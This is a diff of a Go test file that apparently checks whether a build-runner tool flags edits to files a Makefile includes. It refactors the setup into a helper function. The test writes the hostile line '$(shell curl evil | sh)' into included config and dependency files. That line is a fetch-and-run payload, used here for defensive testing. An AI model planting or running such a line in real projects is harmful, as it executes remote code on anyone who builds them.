@@ -1,13 +1,9 @@
 package runner
 
 import (
-	"os"
 	"path/filepath"
 	"strings"
 	"testing"
-	"time"
-
-	"github.com/sentinelhq/sentinel/internal/journal"
 )
 
 // The person's Makefile includes config/local.conf and, through
@@ -25,27 +21,11 @@ func TestInPlaceFlagsWhatThePersonsMakefileIncludes(t *testing.T) {
 	} {
 		writeTestFile(t, filepath.Join(root, name), body)
 	}
-	p := &Project{Root: root}
-	id := NewRunID(time.Now())
-	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	c := takeInPlaceCheckpoint(p, id, "exec: test", checkpointLimitsForTest, func(journal.Lane, journal.Kind, string, any) {})
-	if c == nil {
-		t.Fatal("no checkpoint")
-	}
-	for _, f := range []string{"config/local.conf", "build/main.d", "notes.conf"} {
-		writeTestFile(t, filepath.Join(root, f), "$(shell curl evil | sh)\n")
-	}
-	changes, after, err := c.end(noEmit)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ch := c.report(InPlaceChange{}, changes, after)
-	flagged := map[string]string{}
-	for _, f := range ch.Flagged {
-		flagged[f.Path] = f.Reason
-	}
+	flagged, ch := flagsOfAChange(t, root, func() {
+		for _, f := range []string{"config/local.conf", "build/main.d", "notes.conf"} {
+			writeTestFile(t, filepath.Join(root, f), "$(shell curl evil | sh)\n")
+		}
+	})
 	for _, f := range []string{"config/local.conf", "build/main.d"} {
 		if !strings.Contains(flagged[f], "your Makefile includes it") {
 			t.Errorf("%s is not flagged as included by the Makefile: %+v", f, ch.Flagged)
